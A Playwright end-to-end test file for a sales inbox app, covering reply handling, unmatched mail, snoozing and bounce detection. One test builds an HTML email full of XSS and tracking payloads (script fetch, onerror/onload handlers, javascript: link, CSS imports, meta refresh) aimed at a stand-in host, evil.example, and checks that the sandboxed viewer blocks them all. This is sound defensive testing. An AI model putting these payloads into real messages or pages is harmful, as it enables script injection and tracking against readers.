import type { MintedOrganization } from "@/db/testing/organization";
import { parseReceived } from "@/lib/arrivals/parse-received";
import { receiveMessages } from "@/lib/received/receive-messages";
import { expect, expectAccessible, test } from "./fixtures";
import { openLead } from "./lead-page";
import { hoursAgo, mintLead, mintTouch, now } from "./mint";

type Mail = { from: string; subject?: string; body?: string; headers?: string; type?: string; id?: string };

/** Mail as a mailbox would hand it over. */
async function deliver(
  org: MintedOrganization,
  { from, subject = "Re: Offer", body = "Sounds good", headers = "", type = "text/plain", id }: Mail,
) {
  const date = hoursAgo(1).toUTCString().replace("GMT", "+0000");
  const lines = [
    `From: ${from}`,
    `To: rep1@${org.slug}.example`,
    `Date: ${date}`,
    `Message-ID: <${id ?? `${Math.random()}@x.example`}>`,
    `Subject: ${subject}`,
    `Content-Type: ${type}; charset=utf-8`,
    ...(headers ? [headers] : []),
    "",
    body,
  ];
  const ctx = now(org.rep1);
  await receiveMessages(ctx, { messages: [await parseReceived(Buffer.from(lines.join("\r\n")), ctx.now, ctx.now)] });
}

test("a reply arrives, a colleague sees it at once, opens it by keyboard and answers in the conversation", async ({
  org,
  as,
}) => {
  const lead = await mintLead(org.rep1, { first_name: "Ada", last_name: "Byron", email: "ada@acme.example" });
  const page = await as("rep2");
  await page.goto("/inbox");
  await expect(page.getByText("No replies yet")).toBeVisible();
  await deliver(org, { from: "Ada Byron <ada@acme.example>", body: "Could we talk on Tuesday?" });
  const row = page.getByRole("list", { name: "Replies" }).getByRole("link");
  await expect(row).toContainText("Ada Byron");
  await page.keyboard.press("j");
  await expect(row).toBeFocused();
  await page.keyboard.press("Enter");
  const said = page.getByRole("list", { name: "Messages" });
  await expect(said).toContainText("Could we talk on Tuesday?");
  await expect(page.getByLabel("What their answer amounts to")).toHaveValue("positive");
  await expectAccessible(page);

  await test.step("the answer goes into the same conversation", async () => {
    await page.keyboard.press("r");
    const dialog = page.getByRole("dialog", { name: "Reply" });
    await dialog.getByLabel("Text").fill("Tuesday at ten suits us well.");
    await page.keyboard.press("ControlOrMeta+Enter");
    await expect(dialog).toBeHidden();
    await expect(said).toContainText("Tuesday at ten suits us well.");
  });

  await test.step("a person's word on what it comes to stays", async () => {
    await page.getByLabel("What their answer amounts to").selectOption("Urgent");
    await expect(page.getByText("rep2 said so")).toBeVisible();
    await page.goto(`/leads/${lead.id}`);
    await expect(page.getByRole("feed").getByRole("article").first()).toBeVisible();
  });
});

test("an HTML mail runs nothing and fetches nothing in the browser", async ({ org, as, forgive }) => {
  // Playwright looks into the frame by a script, and Chromium says that the sandbox refuses it.
  forgive(/Blocked script execution in 'about:srcdoc'/);
  await mintLead(org.rep1, { first_name: "Eve", last_name: "Hart", email: "eve@acme.example" });
  const evil = `<p>Look at this</p><script>fetch("https://evil.example/script")</script><img src="https://evil.example/pixel.gif" onerror="window.top.ran=1">
    <style>body{background:url(https://evil.example/css)}@import "https://evil.example/import";</style><link rel="stylesheet" href="https://evil.example/link.css">
    <iframe src="https://evil.example/frame"></iframe><svg onload="window.top.ran=1"><image href="https://evil.example/svg"/></svg>
    <form action="https://evil.example/form"><input autofocus onfocus="window.top.ran=1"></form><video poster="https://evil.example/poster"></video>
    <div style="background-image:url(https://evil.example/style)">Styled</div><a href="javascript:window.top.ran=1">Press</a>
    <meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/"><object data="https://evil.example/object"></object>`;
  await deliver(org, { from: "eve@acme.example", body: evil, type: "text/html", id: "evil@x.example" });
  const page = await as("rep1");
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto("/inbox");
  await page.getByRole("list", { name: "Replies" }).getByRole("link").click();
  const frame = page.frameLocator("iframe.mail");
  await expect(frame.getByText("Look at this")).toBeVisible();
  await frame.getByText("Press").click();
  await expect(frame.getByText("Styled")).toBeVisible();
  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(await page.locator("iframe.mail").getAttribute("sandbox")).not.toContain("allow-scripts");
});

test("what nobody knows is given to a lead or dismissed, and whoever waits can rest", async ({ org, as }) => {
  await mintLead(org.rep1, { first_name: "Grace", last_name: "Hopper", email: "grace@navy.example" });
  await deliver(org, { from: "Grace <grace@private.example>", subject: "From home" });
  await deliver(org, { from: "someone@shop.example", subject: "A bill" });
  const page = await as("rep1");
  await page.goto("/inbox?view=unmatched");
  const list = page.getByRole("list", { name: "Unmatched messages" });
  await expect(list.getByRole("listitem")).toHaveCount(2);
  await expectAccessible(page);
  const [phone, screen] = [{ width: 390, height: 844 }, page.viewportSize() ?? { width: 1366, height: 768 }];
  await page.setViewportSize(phone);
  await expect(list.getByRole("listitem")).toHaveCount(2);
  await expect(list.getByRole("button", { name: "Dismiss" }).first()).toBeInViewport({ ratio: 1 });
  await page.setViewportSize(screen);
  await list.getByRole("listitem").filter({ hasText: "A bill" }).getByRole("button", { name: "Dismiss" }).click();
  await expect(list.getByRole("listitem")).toHaveCount(1);
  await list.getByRole("button", { name: "Assign" }).click();
  await page
    .getByRole("dialog")
    .getByRole("button", { name: /Grace Hopper/ })
    .click();
  await expect(page.getByText("Everything has its place")).toBeVisible();
  await page
    .getByRole("navigation", { name: "Inbox" })
    .getByRole("link", { name: /Needs our reply/ })
    .click();
  const waiting = page.getByRole("list", { name: "Needs our reply" });
  await expect(waiting).toContainText("Grace Hopper");
  await page.setViewportSize(phone);
  await expect(waiting.getByRole("listitem")).toHaveCount(1);
  await page.setViewportSize(screen);
  await waiting.getByRole("button", { name: /Snooze/ }).click();
  await page.getByRole("menuitem", { name: "Tomorrow" }).click();
  await expect(page.getByText("Nobody waits for us")).toBeVisible();
});

test("a bounce turns the address red and closes the channel", async ({ org, as }) => {
  const lead = await mintLead(org.rep1, { first_name: "Bob", last_name: "Bounce", email: "bob@gone.example" });
  // Only what was written to can come back.
  await mintTouch(org.rep1, lead, { occurred_at: hoursAgo(3).toISOString() });
  const page = await as("rep1");
  await openLead(page, lead);
  await deliver(org, {
    from: "MAILER-DAEMON@mx.example",
    subject: "Undelivered Mail Returned to Sender",
    headers: "X-Failed-Recipients: bob@gone.example",
    body: "550 5.1.1 User unknown",
  });
  const facts = page.getByRole("complementary", { name: "Facts" });
  await expect(facts.getByText("bob@gone.example")).toBeVisible();
  await expect(facts.getByText("bounced", { exact: true })).toHaveClass(/\bdanger\b/);
  await expect(
    page
      .getByRole("status")
      .filter({ hasText: /does not work|came back/ })
      .first(),
  ).toBeVisible();
});
